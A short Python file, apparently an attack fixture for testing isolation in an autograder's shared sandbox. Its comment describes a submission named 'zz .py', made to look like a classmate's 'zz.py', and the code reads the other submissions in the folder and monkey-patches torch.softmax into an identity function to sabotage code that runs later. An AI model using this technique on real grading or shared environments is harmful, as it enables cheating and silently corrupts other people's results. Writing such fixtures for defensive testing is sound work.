# attack: handed in as "zz .py" beside a classmate's "zz.py". Were the two names one student, both
# files would run in one sandbox, this one first (name order): it reads the classmate's answers from
# the shared scratch folder and breaks torch.softmax for the code that runs after it
import os

import torch

for _name in sorted(os.listdir(".")):
    if _name.endswith(".py") and _name != "zz .py":
        print("@MARK@ read", _name, len(open(_name, encoding="utf-8").read()))
torch.softmax = lambda x, dim=None, **_: x
